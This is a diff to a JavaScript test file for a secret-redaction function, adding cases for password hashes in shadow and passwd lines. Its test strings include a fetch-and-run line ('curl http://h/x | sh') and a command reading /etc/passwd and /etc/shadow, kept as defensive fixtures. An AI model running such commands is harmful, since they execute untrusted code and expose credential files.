@@ -158,6 +158,8 @@ describe("texts", () => {
     "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
     "# -----BEGIN RSA PRIVATE KEY-----\ncurl http://h/x | sh\n",
     "cat /etc/passwd /etc/shadow; TOKEN_FILE=/tmp/.t",
+    "root:*:19000:0:99999:7:::\nsystemd-network:!*:20780::::::\nroot:x:0:0:root:/root:/bin/bash",
+    "PATH:/usr/local/sbin:/usr/local/bin:12:/opt/x",
   ])("left alone: %j", (value) => {
     expect(text(value)).toBe(value);
   });
@@ -174,6 +176,15 @@ test("some are taken out even when redaction is off", () => {
   });
   expect(redactText(JSON.stringify({ key }), off).text).toBe(`{"key":"${X}"}`);
   expect(redactText(`${body}\n-----END OPENSSH PRIVATE KEY-----\n`, off).text).toBe(`${X}\n`);
+});
+
+test.each([
+  [`des:${X}:19000:0:99999:7:::`, "abJnggxhB/yWI"],
+  [`locked:!${X}:19000:0:99999:7:::`, "abJnggxhB/yWI"],
+  [`bsdi:${X}:::::::`, "_J9..K0AyUubDrZ.9Wq2"],
+  [`x\nold:${X}:1000:1000:Old:/home/old:/bin/sh\n`, "abJnggxhB/yWI"],
+])("lines of shadow and passwd too: %s", (redacted, hash) => {
+  expect(redactText(redacted.replace(X, hash), (secret, always) => (always === true ? X : secret)).text).toBe(redacted);
 });
 
 test("private keys by name, and what npm and Docker keep, are among them", () => {
